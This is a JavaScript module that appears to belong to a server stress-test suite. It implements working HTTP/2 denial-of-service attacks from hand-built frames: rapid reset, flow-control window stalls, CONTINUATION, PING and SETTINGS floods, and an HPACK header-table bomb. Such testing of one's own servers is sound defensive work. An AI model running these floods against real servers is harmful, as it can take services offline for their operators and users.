// http2.mjs - attacks by one connection of HTTP/2, with frames that are written by hand: streams that are reset, windows
// that stay closed, and frames that cost the server more than their sender. See ../attacks.mjs for what an attack is.
import { ACK, CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, block, frame, get, post, request, settings, u32 } from "../../support/strict/frames.mjs";
import { many, pour, push } from "./pour.mjs";
import { sleep } from "../dev.mjs";

const CANCEL = u32(8);
const at = (path, pairs = get()) => pairs.map(([name, value]) => [name, name === ":path" ? path : value]);

async function connected(port, options) {
  const c = new Connection({ port }, options);
  await c.until(() => c.frames > 0, 10000);
  return c;
}

const taken = (bytes, c) => `${(bytes / 1e6).toFixed(1)} MB taken${c.closed || c.goaway ? ", then refused" : ""}`;

/** Streams that are opened with `open(id)`, which ends in a reset. */
function resets(count, open, after = 1000) {
  return async ({ port, scale, pause }) => {
    const c = await connected(port);
    let done = 0;
    for (let id = 1; done < count * scale && !c.closed && !c.goaway; ) {
      const parts = [];
      for (let i = 0; i < 100; i++, id += 2, done++) parts.push(open(id));
      if (!(await push(c.socket, Buffer.concat(parts)))) break;
      if (done % 1000 === 0) await new Promise(setImmediate);
    }
    await pause(after);
    c.close();
    return `${done} streams${c.closed || c.goaway ? ", then refused" : ""}`;
  };
}

const cancelled = (path) => {
  const head = block(at(path));
  return (id) => Buffer.concat([frame(HEADERS, END_STREAM | END_HEADERS, id, head), frame(RST_STREAM, 0, id, CANCEL)]);
};

/** Frames that are poured in, in a number. */
function flood(count, piece, { first, paused = false } = {}) {
  return async ({ port, scale, pause }) => {
    const c = await connected(port);
    if (paused) c.socket.pause();
    if (first) c.write(first);
    const n = await pour(c.socket, many(piece), count * piece.length * scale);
    await sleep(500);
    c.socket.resume();
    const result = taken(n, c);
    c.close();
    return result;
  };
}

const goal = { peak: 256, longest: 100 };

export default {
  "h2-rapid-reset": { what: "100,000 streams, opened and reset", goal, short: 0.2, run: resets(100000, cancelled("/good")) },
  "h2-rapid-reset-slow": { what: "5,000 streams of a flare of 0.5 s, opened and reset", goal, short: 0.2, run: resets(5000, cancelled("/spin"), 3000) },
  "h2-reset-bodies": { what: "20,000 streams of a flare of 0.5 s with 64 KB of body, reset", goal, short: 0.1, async run({ port, scale, pause }) {
    const c = await connected(port);
    const head = block(at("/spin", post()));
    const data = Buffer.alloc(16384);
    let id = 1;
    let done = 0;
    for (; done < 20000 * scale && !c.closed && !c.goaway; done++, id += 2) {
      if (!(await c.until(() => c.window >= 65535, 3000))) break;
      c.window -= 65535;
      const piece = Buffer.concat([frame(HEADERS, END_HEADERS, id, head), ...[0, 1, 2].map(() => frame(DATA, 0, id, data)), frame(DATA, END_STREAM, id, data.subarray(1)), frame(RST_STREAM, 0, id, CANCEL)]);
      if (!(await push(c.socket, piece))) break;
    }
    await pause(1000);
    c.close();
    return `${done} streams${c.goaway ? ", then refused" : ""}`;
  } },
  "h2-window-0": { what: "100 streams of 10 MiB each, with a window of 0", goal, short: 1, async run({ port, pause }) {
    const c = await connected(port, { first: settings([4, 0]), greedy: false });
    c.write(...Array.from({ length: 100 }, (_, i) => request(2 * i + 1, at("/big"))));
    await pause(5000);
    c.close();
  } },
  "h2-window-unread": { what: "100 streams of 10 MiB each, with large windows, not read", goal, short: 1, async run({ port, pause }) {
    const c = await connected(port, { first: settings([4, 0x7fffffff]), greedy: false });
    c.write(frame(WINDOW_UPDATE, 0, 0, u32(0x7fff0000)));
    c.socket.pause();
    c.write(...Array.from({ length: 100 }, (_, i) => request(2 * i + 1, at("/big"))));
    await pause(5000);
    c.close();
  } },
  "h2-window-dribble": { what: "100 streams of 10 MiB each, a byte of window at a time", goal, short: 1, async run({ port, pause }) {
    const c = await connected(port, { first: settings([4, 1]), greedy: false });
    c.write(...Array.from({ length: 100 }, (_, i) => request(2 * i + 1, at("/big"))));
    for (let n = 0; n < 40 && !c.closed; n++) {
      c.write(...Array.from({ length: 100 }, (_, i) => frame(WINDOW_UPDATE, 0, 2 * i + 1, u32(1))));
      await sleep(50);
    }
    c.close();
  } },
  "h2-continuations": { what: "2,000,000 empty CONTINUATION frames", goal, short: 0.1, run: flood(2e6, frame(CONTINUATION, 0, 1), { first: frame(HEADERS, END_STREAM, 1, block(get())) }) },
  "h2-continuations-large": { what: "200 MB of CONTINUATION frames with headers", goal, short: 0.1, run: flood(12000, frame(CONTINUATION, 0, 1, block([["x-a", "v".repeat(16000)]])), { first: frame(HEADERS, END_STREAM, 1, block(get())) }) },
  "h2-pings": { what: "3,000,000 pings, answers not read", goal, short: 0.1, run: flood(3e6, frame(PING, 0, 0, Buffer.alloc(8)), { paused: true }) },
  "h2-settings": { what: "3,000,000 SETTINGS, answers not read", goal, short: 0.1, run: flood(3e6, frame(SETTINGS, 0, 0), { paused: true }) },
  "h2-settings-acks": { what: "3,000,000 SETTINGS that acknowledge nothing", goal, short: 0.1, run: flood(3e6, frame(SETTINGS, ACK, 0)) },
  "h2-priorities": { what: "3,000,000 PRIORITY frames of as many streams", goal, short: 0.1, async run({ port, scale, pause }) {
    const c = await connected(port);
    let n = 0;
    for (let id = 1; n < 3e6 * scale && !c.closed; n += 4096) {
      const parts = [];
      for (let i = 0; i < 4096; i++, id += 2) parts.push(frame(PRIORITY, 0, id, Buffer.concat([u32(id > 2 ? id - 2 : 0), Buffer.from([15])])));
      if (!(await push(c.socket, Buffer.concat(parts)))) break;
    }
    await sleep(500);
    c.close();
    return `${n} frames`;
  } },
  "h2-empty-data": { what: "3,000,000 empty DATA frames of one stream", goal, short: 0.1, run: flood(3e6, frame(DATA, 0, 1), { first: frame(HEADERS, END_HEADERS, 1, block(post())) }) },
  "h2-windows": { what: "3,000,000 WINDOW_UPDATEs of the connection, of 1", goal, short: 0.1, run: flood(3e6, frame(WINDOW_UPDATE, 0, 0, u32(1))) },
  "h2-unknown": { what: "3,000,000 frames of an unknown type", goal, short: 0.1, run: flood(3e6, frame(0x77, 0, 0)) },
  "h2-empty-names": { what: "1,000 streams with 4,000 empty headers each", goal, short: 0.2, async run({ port, scale, pause }) {
    const c = await connected(port);
    const head = Buffer.concat([block(get()), many(Buffer.from([0, 0, 0]), 12000)]);
    let n = 0;
    for (; n < 1000 * scale && !c.closed && !c.goaway; n++) {
      if (!(await push(c.socket, frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, head)))) break;
      if (n % 50 === 49) await c.until(c.over(2 * n + 1), 2000);
    }
    await sleep(500);
    c.close();
    return `${n} streams${c.goaway ? ", then refused" : ""}`;
  } },
  "h2-bomb": { what: "100 streams whose 16 KB of headers mean 64 MB each, by HPACK's table", goal, short: 1, async run({ port, pause }) {
    const c = await connected(port);
    const insert = Buffer.concat([Buffer.from([0x40, 3]), Buffer.from("x-a"), Buffer.from([0x7f, 0x80 + ((4000 - 127) & 127), (4000 - 127) >> 7]), Buffer.alloc(4000, 0x61)]);
    c.write(frame(HEADERS, END_STREAM | END_HEADERS, 1, Buffer.concat([block(get()), insert])));
    for (let i = 1; i < 100 && !c.closed; i++) c.write(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, Buffer.concat([block(get()), Buffer.alloc(16000, 0xbe)])));
    await pause(2000);
    c.close();
    return c.goaway || c.closed ? "refused" : undefined;
  } },
};
